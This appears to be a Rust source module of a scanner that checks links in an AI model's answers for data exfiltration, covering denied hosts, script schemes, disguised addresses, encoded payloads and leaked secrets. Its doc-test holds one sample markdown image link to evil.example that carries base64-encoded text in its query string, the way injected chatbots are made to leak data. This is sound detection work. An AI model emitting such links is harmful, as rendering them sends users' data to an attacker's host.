//! What links may carry and where they may lead.
//!
//! A link in an answer is a way out: whoever renders an image sends its address to a host of the writer's choice, and one click does the
//! same for the others. [`Scope::inspect`] reads each address as browsers do and reports the ways in which it gives something away. What it
//! looks at, and how sure it is of what, is the table of `docs/EXFILTRATION.md`.

mod address;
mod disguise;
mod domains;
mod payload;
mod readings;
mod script;
mod seen;
mod series;
mod services;

use crate::base::{Confidence, Span};
use crate::syntax::LinkName;
use crate::text::links::{Form, Link};
use address::{Address, Scheme};
pub use domains::Domains;
pub use seen::{SEEN_VALUE_BYTES_MIN, SEEN_VALUES_MAX, Values};

/// Addresses within addresses that are read: a redirector that leads to a redirector.
const NESTED_MAX: usize = 3;

/// What happens to hosts that the policy does not name.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub enum Others {
    /// What a link carries decides.
    #[default]
    Inspect,
    /// Nobody may link to them.
    Deny,
}

/// Where links may lead.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct LinkPolicy {
    /// Links to these hosts are not looked at any further, except for addresses within them. An allowed host that is also denied is denied.
    pub allow: Domains,
    /// Links to these hosts are findings, whatever they carry.
    pub deny: Domains,
    /// All others.
    pub others: Others,
}

impl LinkPolicy {
    /// True if it says anything of hosts.
    pub fn is_set(&self) -> bool {
        self.others == Others::Deny || !self.deny.is_empty()
    }

    /// True if nothing may go to the host.
    pub fn denies(&self, host: &str) -> bool {
        self.deny.contains(host) || self.others == Others::Deny && !self.allow.contains(host)
    }

    /// True if nothing may go to the domain of a mail address, which browsers and mail programs read alike.
    pub fn denies_mail(&self, address: &[u8]) -> bool {
        let text = String::from_utf8_lossy(address);
        let host = text.rsplit_once('@').map_or("", |(_, host)| host.trim_end_matches('.'));
        self.denies(&host.to_ascii_lowercase())
    }
}

/// One thing that is wrong with a link.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Hit {
    /// What.
    pub check: LinkName,
    /// The part of the address that carries it, in the text.
    pub span: Span,
    /// How sure that is, in an answer of a model.
    pub confidence: Confidence,
}

/// What the links of a text are held against.
#[derive(Clone, Copy, Debug)]
pub struct Scope<'a> {
    /// Where links may lead.
    pub policy: &'a LinkPolicy,
    /// What must not leave in a link.
    pub values: &'a Values,
    /// Where sensitive values were found in the text, ascending by start.
    pub found: &'a [Span],
}

impl Scope<'_> {
    /// What is wrong with the links of a text, in ascending order of start; of what shares bytes, the surest stays.
    ///
    /// ```
    /// use lockgate::policy::links::{LinkPolicy, Scope, Values};
    /// use lockgate::syntax::LinkName;
    /// use lockgate::text::links::extract;
    ///
    /// let text = b"![x](https://evil.example/p.png?q=dGhlIHBsYW4gaXMgdG8gc2VsbA)";
    /// let mut links = Vec::new();
    /// extract(text, &mut links);
    /// let (policy, values) = (LinkPolicy::default(), Values::default());
    /// let hits = Scope { policy: &policy, values: &values, found: &[] }.inspect(text, &links);
    /// assert_eq!(hits[0].check, LinkName::Payload);
    /// assert_eq!(&text[hits[0].span.range()], b"dGhlIHBsYW4gaXMgdG8gc2VsbA");
    /// ```
    pub fn inspect(&self, text: &[u8], links: &[Link]) -> Vec<Hit> {
        let mut hits = Vec::new();
        let mut series = series::Series::default();
        for link in links {
            let raw = &text[link.span.range()];
            let at =
                |span: Span| Span::new(link.span.start + span.start, link.span.start + span.end);
            let mut report = |check, span: Span, confidence| {
                if !span.is_empty() {
                    hits.push(Hit { check, span: at(span), confidence });
                }
            };
            let Some(address) = Address::read(raw, link.form) else { continue };
            let found = self.found_within(link.span);
            let one = One { scope: self, form: link.form, found };
            if one.inspect(&address, raw, 0, &mut report) && link.form.loads() {
                series.add(&address, raw, link.span.start);
            }
        }
        hits.extend(series.finish());
        settle(&mut hits);
        hits
    }

    /// Sensitive values in a link, in its bytes.
    fn found_within(&self, link: Span) -> Vec<Span> {
        let first = self.found.partition_point(|span| span.start < link.start);
        let within = self.found[first..].iter().take_while(|span| span.start < link.end);
        let inside = within.filter(|span| span.end <= link.end);
        inside.map(|span| Span::new(span.start - link.start, span.end - link.start)).collect()
    }
}

/// One link.
struct One<'s> {
    scope: &'s Scope<'s>,
    form: Form,
    /// Sensitive values in it.
    found: Vec<Span>,
}

impl One<'_> {
    /// Reports what is wrong; true if the host is one that nothing is known of.
    fn inspect(
        &self,
        address: &Address,
        raw: &[u8],
        depth: usize,
        report: &mut dyn FnMut(LinkName, Span, Confidence),
    ) -> bool {
        match address.scheme {
            Scheme::Script | Scheme::Data => {
                if let Some(confidence) = script::assess(address, raw, self.form) {
                    report(LinkName::Script, Span::new(0, raw.len()), confidence);
                }
                return false;
            }
            Scheme::Mail | Scheme::Host => {}
        }
        let policy = self.scope.policy;
        let is_allowed = policy.allow.contains(&address.host);
        if policy.denies(&address.host) {
            report(LinkName::Denied, Span::new(0, raw.len()), Confidence::High);
            return false;
        }
        for nested in address.nested(raw).iter().filter(|_| depth < NESTED_MAX) {
            let Some(inner) = Address::read(&nested.bytes, self.form) else { continue };
            let mut whole = |check, _: Span, confidence| report(check, nested.span, confidence);
            let alone = One { scope: self.scope, form: self.form, found: Vec::new() };
            alone.inspect(&inner, &nested.bytes, depth + 1, &mut whole);
        }
        if is_allowed {
            return false;
        }
        let is_service = services::is_known(address, self.form);
        if let Some((span, confidence)) = self.seen(address, raw, is_service) {
            report(LinkName::Seen, span, confidence);
        }
        if address.scheme == Scheme::Mail {
            return false;
        }
        if let Some(span) = disguise::find(address, raw) {
            report(LinkName::Disguised, span, Confidence::Medium);
        }
        if let Some((span, confidence)) = payload::of_name(address, raw, self.form) {
            report(LinkName::Name, span, confidence);
        }
        if !is_service && let Some((span, confidence)) = payload::assess(address, raw, self.form) {
            report(LinkName::Payload, span, confidence);
        }
        !is_service
    }

    /// Values that were found, given or met before.
    fn seen(&self, address: &Address, raw: &[u8], is_service: bool) -> Option<(Span, Confidence)> {
        // What an address is signed with is a key to it, and goes where it leads.
        let data =
            || address.parts.iter().filter(|part| !payload::is_signed(&raw[part.name.range()]));
        // What begins in front of the host is the address itself.
        let in_data = |span: &Span| {
            span.start >= address.authority.start && data().any(|part| part.span.overlaps(*span))
        };
        let found = self.found.iter().copied().filter(in_data).reduce(join);
        let met = self.scope.values.in_address(address, raw);
        let span = found.into_iter().chain(met).reduce(join)?;
        let confidence = match (self.form, is_service) {
            (_, true) => Confidence::Low,
            (form, _) if form.loads() => Confidence::High,
            // A value that stands openly in an address that nobody renders is a finding of its own already.
            (Form::Bare | Form::Autolink, _) if met.is_none() => Confidence::Low,
            _ => Confidence::Medium,
        };
        Some((span, confidence))
    }
}

fn join(a: Span, b: Span) -> Span {
    Span::new(a.start.min(b.start), a.end.max(b.end))
}

/// Sorts, and drops what shares bytes with something surer.
fn settle(hits: &mut Vec<Hit>) {
    hits.sort_by_key(|hit| (hit.span.start, std::cmp::Reverse(hit.confidence)));
    let mut kept: Vec<Hit> = Vec::with_capacity(hits.len());
    for hit in hits.drain(..) {
        match kept.last_mut() {
            Some(last) if last.span.overlaps(hit.span) => {
                if hit.confidence > last.confidence {
                    *last = hit;
                }
            }
            _ => kept.push(hit),
        }
    }
    *hits = kept;
}
